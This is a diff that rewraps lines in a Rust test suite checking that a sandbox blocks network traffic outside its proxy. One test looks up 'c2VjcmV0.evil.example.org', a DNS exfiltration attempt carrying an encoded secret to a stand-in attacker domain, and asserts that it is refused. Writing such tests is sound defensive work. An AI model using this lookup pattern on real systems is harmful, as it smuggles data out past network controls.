@@ -41,7 +41,10 @@ async fn nothing_leaves_around_the_proxy(mode: &'static str) -> Result<()> {
     ensure!(listener.accept().is_ok(), "the control reached the abstract socket");
     let before = place.network.packets();
     ensure!(before.iter().any(|line| line.starts_with("17 ")), "the capture sees UDP: {before:?}");
-    ensure!(before.iter().any(|line| line.contains("2606:2800:")), "the capture sees IPv6: {before:?}");
+    ensure!(
+        before.iter().any(|line| line.contains("2606:2800:")),
+        "the capture sees IPv6: {before:?}"
+    );
 
     let session = place.session(&[ALLOWED], &[]).await?;
     place.client.put(&session, "attack.py", ATTACK).await?;
@@ -55,13 +58,15 @@ async fn nothing_leaves_around_the_proxy(mode: &'static str) -> Result<()> {
     ensure!(packets.is_empty(), "left the sandbox: {packets:?}\n{tried}");
     ensure!(!tried.contains(": sent"), "{tried}");
     ensure!(listener.accept().is_err(), "the sandbox reached an abstract socket of the host");
-    let unreachable = tried.lines().filter(|line| line.ends_with(": Network is unreachable")).count();
+    let unreachable =
+        tried.lines().filter(|line| line.ends_with(": Network is unreachable")).count();
     ensure!(unreachable >= SEEN_BY_CAPTURE, "{tried}");
     attempts_are_recorded(&place, &done, unreachable as u64).await?;
     unreachable_attempts_are_counted_without_proxy(&place, &session).await?;
 
     // The allowed way still works, and is the only one that the capture sees.
-    let allowed = place.run(&session, &format!("curl -fsS --max-time 20 http://{ALLOWED}/hello")).await?;
+    let allowed =
+        place.run(&session, &format!("curl -fsS --max-time 20 http://{ALLOWED}/hello")).await?;
     ensure!(exit_code(&allowed) == Some(0), "{allowed:?}");
     ensure!(unreachable_attempts(&allowed)? == Some(0), "counted what was not tried: {allowed:?}");
     let ports: Vec<String> = place.network.packets().split_off(before);
@@ -85,10 +90,14 @@ async fn attempts_are_recorded(place: &Place, done: &Transcript, count: u64) -> 
 }
 
 /// Mode `none` counts them, too. A run that tries nothing has no network usage.
-async fn unreachable_attempts_are_counted_without_proxy(place: &Place, session: &str) -> Result<()> {
-    let send =
-        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"192.0.2.1\", 9))";
-    for (script, attempts) in [(format!("/usr/bin/python3 -c '{send}'"), Some(1)), ("true".into(), None)] {
+async fn unreachable_attempts_are_counted_without_proxy(
+    place: &Place,
+    session: &str,
+) -> Result<()> {
+    let send = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"192.0.2.1\", 9))";
+    for (script, attempts) in
+        [(format!("/usr/bin/python3 -c '{send}'"), Some(1)), ("true".into(), None)]
+    {
         let mut request = with_authority(session, &script);
         request.network = NetworkMode::None.into();
         let done = Exec::start(&place.client, request).await?.finish().await?;
@@ -123,22 +132,31 @@ async fn refused_names_stay_on_the_host_and_are_recorded() -> Result<()> {
     let Some(place) = Place::start("bwrap").await? else { return Ok(()) };
     let session = place.session(&[ALLOWED], &[]).await?;
     let lookup = |name: &str| {
-        format!("/usr/bin/python3 -c 'import socket; print(socket.getaddrinfo(\"{name}\", 80)[0][4][0])'")
+        format!(
+            "/usr/bin/python3 -c 'import socket; print(socket.getaddrinfo(\"{name}\", 80)[0][4][0])'"
+        )
     };
     let done = place.run(&session, &lookup("c2VjcmV0.evil.example.org")).await?;
     ensure!(exit_code(&done) == Some(1), "{done:?}");
-    ensure!(!place.network.queries().iter().any(|line| line.contains("evil")), "the name left the host");
+    ensure!(
+        !place.network.queries().iter().any(|line| line.contains("evil")),
+        "the name left the host"
+    );
     let refused = place.events(EventKind::NetworkRefused).await?;
     let is_it = |host: &str| refused.iter().any(|event| event.body.detail["host"] == host);
     ensure!(is_it("c2vjcmv0.evil.example.org"), "{refused:?}");
-    // The control: an allowed name has an address inside without a query, and leaves with a connection.
+    // The control: an allowed name has an address inside without a query, and leaves with a
+    // connection.
     place.output(&session, &lookup(ALLOWED)).await?;
     ensure!(
         !place.network.queries().iter().any(|line| line.contains(ALLOWED)),
         "resolved before it is needed"
     );
     place.output(&session, &format!("curl -fsS --max-time 20 http://{ALLOWED}/hello")).await?;
-    ensure!(place.network.queries().iter().any(|line| line.contains(ALLOWED)), "the capture sees queries");
+    ensure!(
+        place.network.queries().iter().any(|line| line.contains(ALLOWED)),
+        "the capture sees queries"
+    );
     place.end().await
 }
 
@@ -151,7 +169,8 @@ async fn sandbox_cannot_use_another_ones_rules() -> Result<()> {
     let proxy = place.output(&open, "echo $HTTPS_PROXY").await?;
     ensure!(proxy.trim().starts_with("http://127.0.0.1:"), "{proxy}");
     // While a sandbox with the rule is open, another one tries the same address.
-    let mut running = Exec::start(&place.client, with_authority(&open, "echo up; sleep 1000")).await?;
+    let mut running =
+        Exec::start(&place.client, with_authority(&open, "echo up; sleep 1000")).await?;
     running.until_stdout("up").await?;
     let get = format!(
         "curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -x {} http://{ALLOWED}/hello",
